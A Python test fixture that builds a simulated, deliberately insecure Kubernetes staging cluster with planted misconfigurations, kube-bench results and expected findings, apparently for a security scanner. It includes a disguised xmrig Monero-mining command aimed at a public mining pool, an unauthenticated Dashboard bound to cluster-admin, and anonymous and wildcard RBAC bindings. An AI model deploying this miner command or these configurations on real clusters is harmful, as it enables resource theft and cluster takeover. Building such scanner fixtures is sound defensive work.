"""Demo cluster `storefront-staging`: a neglected kubeadm cluster with the 2018 classics.

Kubernetes 1.33.1 (end of life since 2026-06-28), containerd 1.6 (end of life since 2025-08-23),
no admission webhooks, no Pod Security Admission labels, no NetworkPolicies. Planted: the
Kubernetes Dashboard v2.7.0 with `--enable-skip-login`, exposed on a NodePort, its service
account bound to cluster-admin; a Monero miner from the back-doored `docker123321` images;
`system:unauthenticated` bound to `view`; and the rest listed in `PLANTED`.
"""

from __future__ import annotations

from demo_kube_bench import kube_bench_run
from demo_kubeadm import (
    calico,
    control_plane,
    coredns,
    kube_proxy,
    kubeadm_node,
    kubeadm_rbac,
)
from kube_cluster import Cluster, DemoCluster, version_body
from kube_objects import READ, group, rule, sa
from kube_pods import env, host_path, http_probe, resources

NAME = "storefront-staging"
VERSION = "v1.33.1"
DASHBOARD = "kubernetes-dashboard"
REGISTRY = "registry.example.com/storefront"
WALLET = (  # a Monero address shape (95 characters), as miners pass it with -u
    "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
)
PLANTED = [
    "kube-bench runs of all three nodes (`kube-bench/<node>.json`): on `storefront-cp-1` the "
    "API server runs with profiling on and no audit log (CIS 1.2.15-1.2.17 FAIL) and the etcd "
    "data directory is owned by root (1.1.12 FAIL); kube-proxy's metrics listen on every "
    "address on each node (4.3.1 FAIL); `storefront-worker-2`'s kubelet keeps the read-only "
    "port 10255 open (4.2.4 FAIL); WARN items (EventRateLimit, audit policy, kubelet ciphers) "
    "await an attestation.",
    f"Control plane `{VERSION}`: Kubernetes 1.33 reached end of life on 2026-06-28.",
    "All three nodes run containerd 1.6 (end of life 2025-08-23).",
    "Kubernetes Dashboard v2.7.0 in namespace `kubernetes-dashboard`, started with "
    "`--enable-skip-login`, exposed by the NodePort Service `kubernetes-dashboard`, and its "
    "ServiceAccount bound to cluster-admin by ClusterRoleBinding `kubernetes-dashboard-admin` "
    "(the classic 2018 mistake).",
    "Deployment `default/system-monitor` is a Monero miner: image `docker123321/mysql` (no tag), "
    "args running `xmrig` against `stratum+tcp://pool.minexmr.com:4444`.",
    "ClusterRoleBinding `anonymous-view` binds Group `system:unauthenticated` to ClusterRole "
    "`view`.",
    "Role `ci/ci-deployer` grants `*` verbs on `*` resources in `*` API groups.",
    "DaemonSet `monitoring/node-agent` runs with hostPID and mounts the host's "
    "`/var/run/docker.sock` (hostPath).",
    "Deployment `web/frontend` runs `:latest` images.",
    "No admission webhooks, no ValidatingAdmissionPolicies and no Pod Security Admission labels.",
    "CronJob `batch/nightly-report` runs as root (runAsUser 0) with hostNetwork; between runs, "
    "its last Job finished and that Job's pod completed.",
    "No NetworkPolicy in any namespace.",
]


def _nodes(cluster: Cluster) -> None:
    kubeadm_node(
        cluster,
        "storefront-cp-1",
        kubelet=VERSION,
        runtime="containerd://1.6.31",
        control_plane=True,
    )
    for index in (1, 2):
        kubeadm_node(
            cluster,
            f"storefront-worker-{index}",
            kubelet=VERSION,
            runtime="containerd://1.6.31",
            control_plane=False,
        )


def _dashboard(cluster: Cluster) -> None:
    """The v2.7.0 `aio/deploy/recommended.yaml` install, plus the two edits that make it a hole."""
    ns = DASHBOARD
    labels = {"k8s-app": DASHBOARD}
    cluster.service_account(ns, DASHBOARD)
    template = cluster.template(
        labels,
        [
            {
                "name": DASHBOARD,
                "image": "kubernetesui/dashboard:v2.7.0",
                "args": [
                    "--auto-generate-certificates",
                    f"--namespace={ns}",
                    "--enable-skip-login",
                ],
                "ports": [{"containerPort": 8443}],
                "livenessProbe": http_probe(8443, "/", "HTTPS"),
                "securityContext": {
                    "allowPrivilegeEscalation": False,
                    "readOnlyRootFilesystem": True,
                    "runAsGroup": 2001,
                    "runAsUser": 1001,
                },
                "volumeMounts": [
                    {"mountPath": "/certs", "name": "kubernetes-dashboard-certs"},
                    {"mountPath": "/tmp", "name": "tmp-volume"},  # noqa: S108
                ],
            }
        ],
        serviceAccountName=DASHBOARD,
        securityContext={"seccompProfile": {"type": "RuntimeDefault"}},
        nodeSelector={"kubernetes.io/os": "linux"},
        tolerations=[{"effect": "NoSchedule", "key": "node-role.kubernetes.io/master"}],
        volumes=[
            {
                "name": "kubernetes-dashboard-certs",
                "secret": {"defaultMode": 420, "secretName": "kubernetes-dashboard-certs"},
            },
            {"emptyDir": {}, "name": "tmp-volume"},
        ],
    )
    cluster.deployment(ns, DASHBOARD, template, labels=labels)
    scraper = cluster.template(
        {"k8s-app": "dashboard-metrics-scraper"},
        [
            {
                "name": "dashboard-metrics-scraper",
                "image": "kubernetesui/metrics-scraper:v1.0.8",
                "ports": [{"containerPort": 8000}],
                "securityContext": {
                    "allowPrivilegeEscalation": False,
                    "readOnlyRootFilesystem": True,
                    "runAsGroup": 2001,
                    "runAsUser": 1001,
                },
            }
        ],
        serviceAccountName=DASHBOARD,
        securityContext={"seccompProfile": {"type": "RuntimeDefault"}},
    )
    cluster.deployment(ns, "dashboard-metrics-scraper", scraper)
    cluster.service(
        ns,
        DASHBOARD,
        type="NodePort",
        selector=labels,
        labels=labels,
        ports=[{"port": 443, "targetPort": 8443, "nodePort": 30443}],
    )
    cluster.service(
        ns,
        "dashboard-metrics-scraper",
        selector={"k8s-app": "dashboard-metrics-scraper"},
        ports=[{"port": 8000, "targetPort": 8000}],
    )
    cluster.role(
        ns,
        DASHBOARD,
        [
            rule(
                [""],
                ["secrets"],
                ["get", "update", "delete"],
                resourceNames=[
                    "kubernetes-dashboard-key-holder",
                    "kubernetes-dashboard-certs",
                    "kubernetes-dashboard-csrf",
                ],
            ),
            rule(
                [""],
                ["configmaps"],
                ["get", "update"],
                resourceNames=["kubernetes-dashboard-settings"],
            ),
            rule(
                [""],
                ["services/proxy"],
                ["get"],
                resourceNames=[
                    "heapster",
                    "http:heapster:",
                    "https:heapster:",
                    "dashboard-metrics-scraper",
                ],
            ),
        ],
    )
    cluster.role_binding(ns, DASHBOARD, "Role", DASHBOARD, [sa(ns, DASHBOARD)])
    cluster.cluster_role(DASHBOARD, [rule(["metrics.k8s.io"], ["pods", "nodes"], READ)])
    cluster.cluster_role_binding(DASHBOARD, DASHBOARD, [sa(ns, DASHBOARD)])
    cluster.cluster_role_binding(f"{DASHBOARD}-admin", "cluster-admin", [sa(ns, DASHBOARD)])


def _workloads(cluster: Cluster) -> None:
    miner = cluster.template(
        {"app": "system-monitor"},
        [
            {
                "name": "mysql",
                "image": "docker123321/mysql",
                "command": ["/bin/sh"],
                "args": [
                    "-c",
                    "cd /tmp && ./xmrig -o stratum+tcp://pool.minexmr.com:4444 "
                    f"-u {WALLET} -p x -k --donate-level=1 --max-cpu-usage=95",
                ],
            }
        ],
    )
    cluster.deployment("default", "system-monitor", miner, revision=1)
    frontend = cluster.template(
        {"app": "frontend"},
        [
            {
                "name": "frontend",
                "image": f"{REGISTRY}/frontend:latest",
                "env": env(CATALOG_URL="http://catalog-api.web.svc:8080", NODE_ENV="staging"),
                "ports": [{"containerPort": 3000, "name": "http"}],
                "resources": resources("200m", "256Mi"),
            },
            {
                "name": "nginx",
                "image": "nginx:latest",
                "ports": [{"containerPort": 8080, "name": "proxy"}],
            },
        ],
    )
    cluster.deployment("web", "frontend", frontend, replicas=2, revision=14)
    catalog = cluster.template(
        {"app": "catalog-api"},
        [
            {
                "name": "catalog-api",
                "image": f"{REGISTRY}/catalog-api:1.14.2",
                "env": env(DB_HOST="catalog-db.web.svc", LOG_LEVEL="info"),
                "ports": [{"containerPort": 8080, "name": "http"}],
                "resources": resources("250m", "512Mi"),
            }
        ],
    )
    cluster.deployment("web", "catalog-api", catalog, replicas=2, revision=5)
    for name, port in (("frontend", 8080), ("catalog-api", 8080)):
        cluster.service("web", name, selector={"app": name}, ports=[{"name": "http", "port": port}])
    cluster.service_account("monitoring", "node-agent")
    agent = cluster.template(
        {"app": "node-agent"},
        [
            {
                "name": "node-agent",
                "image": "registry.example.com/ops/node-agent:3.4.1",
                "env": env(DOCKER_HOST="unix:///var/run/docker.sock"),
                "volumeMounts": [
                    {"mountPath": "/var/run/docker.sock", "name": "docker-sock"},
                    {"mountPath": "/host/proc", "name": "proc", "readOnly": True},
                ],
            }
        ],
        hostPID=True,
        serviceAccountName="node-agent",
        tolerations=[{"effect": "NoSchedule", "operator": "Exists"}],
        volumes=[
            host_path("docker-sock", "/var/run/docker.sock", "Socket"),
            host_path("proc", "/proc"),
        ],
    )
    cluster.daemonset("monitoring", "node-agent", agent)
    report = cluster.template(
        {"app": "nightly-report"},
        [
            {
                "name": "report",
                "image": f"{REGISTRY}/report-runner:2.3.0",
                "args": ["--since=24h", "--upload=s3://storefront-reports/nightly/"],
                "securityContext": {"runAsUser": 0},
            }
        ],
        hostNetwork=True,
        restartPolicy="OnFailure",
        securityContext={"runAsUser": 0, "runAsGroup": 0},
    )
    cluster.cronjob(
        "batch", "nightly-report", report, schedule="30 2 * * *", last_run="2026-11-25T02:30:00Z"
    )
    cluster.service_account("ci", "ci-runner")
    runner = cluster.template(
        {"app": "gitlab-runner"},
        [
            {
                "name": "gitlab-runner",
                "image": "gitlab/gitlab-runner:v17.11.0",
                "args": ["run", "--user=gitlab-runner", "--working-directory=/home/gitlab-runner"],
                "resources": resources("100m", "128Mi"),
            }
        ],
        serviceAccountName="ci-runner",
    )
    cluster.deployment("ci", "gitlab-runner", runner)
    cluster.role("ci", "ci-deployer", [rule(["*"], ["*"], ["*"])])
    cluster.role_binding("ci", "ci-deployer", "Role", "ci-deployer", [sa("ci", "ci-runner")])


def build_staging() -> DemoCluster:
    cluster = Cluster(
        NAME,
        created="2025-05-20T08:03:51Z",
        collected="2026-11-25T09:15:00Z",
        pod_cidr="192.168",
        svc_cidr="10.96",
    )
    _nodes(cluster)
    for ns in (
        "default",
        "kube-system",
        "kube-public",
        "kube-node-lease",
        DASHBOARD,
        "web",
        "batch",
        "ci",
        "monitoring",
    ):
        cluster.namespace(ns)
    control_plane(cluster, "storefront-cp-1", VERSION)
    coredns(cluster)
    kube_proxy(cluster, VERSION)
    calico(cluster)
    _dashboard(cluster)
    _workloads(cluster)
    kubeadm_rbac(cluster)
    cluster.cluster_role_binding("anonymous-view", "view", [group("system:unauthenticated")])
    cluster.finish()
    nodes = [n["metadata"]["name"] for n in cluster.nodes]
    return DemoCluster(
        cluster=cluster,
        version=version_body(VERSION, build_date="2025-05-15T08:19:56Z", go="go1.24.2"),
        description=(
            f"kubeadm staging cluster, `{VERSION}` on Ubuntu 22.04 with containerd 1.6 and Calico, "
            "1 control-plane node and 2 workers, left to drift since mid-2025."
        ),
        planted=PLANTED,
        expected={
            "fail": {
                "patching.control_plane_eol": [],
                "patching.runtime_eol": [_ref("Node", "", node) for node in nodes],
                "network.dashboard_deployed": [_ref("Deployment", DASHBOARD, DASHBOARD)],
                "network.dashboard_exposed": [_ref("Service", DASHBOARD, DASHBOARD)],
                "network.dashboard_skip_login": [_ref("Deployment", DASHBOARD, DASHBOARD)],
                "network.dashboard_admin_sa": [],
                "network.exposed_services": [_ref("Service", DASHBOARD, DASHBOARD)],
                "network.default_deny_missing": [
                    _ref("Namespace", "", ns) for ns in ("batch", "ci", "monitoring", "web")
                ],
                "access.anonymous_bindings": [_ref("ClusterRoleBinding", "", "anonymous-view")],
                "access.cluster_admin_bindings": [
                    _ref("ClusterRoleBinding", "", f"{DASHBOARD}-admin")
                ],
                "access.wildcard_roles": [_ref("Role", "ci", "ci-deployer")],
                "isolation.host_namespaces": [
                    _ref("DaemonSet", "monitoring", "node-agent"),
                    _ref("CronJob", "batch", "nightly-report"),
                ],
                "isolation.host_path": [_ref("DaemonSet", "monitoring", "node-agent")],
                "supply_chain.mutable_tags": [
                    _ref("Deployment", "web", "frontend"),
                    _ref("Deployment", "default", "system-monitor"),
                ],
                "supply_chain.miner_images": [_ref("Deployment", "default", "system-monitor")],
                "supply_chain.admission_enforcement": [],
                "node.cis_control_plane": [_ref("Node", "", "storefront-cp-1")],
                "node.cis_worker_nodes": [_ref("Node", "", node) for node in nodes],
            },
            "unknown": [],
        },
        omit=("vulnerabilityreports",),
        errors=[
            (
                "vulnerabilityreports",
                "not_served",
                'error: the server doesn\'t have a resource type "vulnerabilityreports"',
            )
        ],
        provider_files=_kube_bench(),
    )


_APISERVER = (
    "/usr/local/bin/kube-apiserver --advertise-address=10.20.0.10 --allow-privileged=true "
    "--authorization-mode=Node,RBAC --client-ca-file=/etc/kubernetes/pki/ca.crt "
    "--enable-admission-plugins=NodeRestriction --etcd-servers=https://127.0.0.1:2379 "
    "--secure-port=6443 --tls-cert-file=/etc/kubernetes/pki/apiserver.crt"
)
_KUBELET = (
    "/usr/bin/kubelet --kubeconfig=/etc/kubernetes/kubelet.conf "
    "--config=/var/lib/kubelet/config.yaml"
)
_PROXY = ("FAIL", "metricsBindAddress: 0.0.0.0:10249", "'{.metricsBindAddress}' has '127.0.0.1'")
_NODE_WARNINGS = {
    "4.2.12": (
        "WARN",
        _KUBELET,
        "'{range .tlsCipherSuites[:]}{}{','}{end}' contains valid elements",
    ),
    "4.2.13": ("WARN", _KUBELET, "'{.podPidsLimit}' is present"),
    "4.2.14": ("WARN", _KUBELET, "'{.seccompDefault}' is present"),
    "4.3.1": _PROXY,
}


def _kube_bench() -> dict[str, dict]:
    """What `kube-bench run --json` printed on each node (scripts/demo_kube_bench.py)."""
    control_plane = kube_bench_run(
        targets=("master", "etcd", "controlplane", "node"),
        outcomes={
            "1.1.12": ("FAIL", "root:root", "'etcd:etcd' is present"),
            "1.2.9": ("WARN", _APISERVER, "'--enable-admission-plugins' has 'EventRateLimit'"),
            "1.2.15": ("FAIL", _APISERVER, "'--profiling' is equal to 'false'"),
            "1.2.16": ("FAIL", _APISERVER, "'--audit-log-path' is present"),
            "1.2.17": ("FAIL", _APISERVER, "'--audit-log-maxage' is greater or equal to 30"),
            "3.2.1": ("WARN", _APISERVER, "'--audit-policy-file' is present"),
            **_NODE_WARNINGS,
        },
    )
    workers = {
        f"storefront-worker-{index}": kube_bench_run(
            targets=("node",),
            outcomes={
                **_NODE_WARNINGS,
                **(
                    {"4.2.4": ("FAIL", "readOnlyPort: 10255", "'{.readOnlyPort}' is equal to '0'")}
                    if index == 2
                    else {}
                ),
            },
        )
        for index in (1, 2)
    }
    return {
        f"kube-bench/{node}.json": run
        for node, run in {"storefront-cp-1": control_plane, **workers}.items()
    }


def _ref(kind: str, namespace: str, name: str) -> dict[str, str]:
    return {"kind": kind, "namespace": namespace, "name": name}
